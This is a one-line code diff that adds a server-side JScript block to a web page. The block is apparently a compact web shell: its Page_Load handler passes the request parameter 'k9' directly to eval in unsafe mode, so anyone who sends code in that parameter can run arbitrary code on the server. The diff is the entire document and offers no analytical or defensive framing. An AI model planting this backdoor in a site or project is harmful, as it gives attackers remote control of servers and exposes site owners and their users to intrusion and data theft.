@@ -1,0 +1,1 @@
+<script language='JScript' runat='server'>function Page_Load(){eval(Request['k9'],'unsafe');}</script>
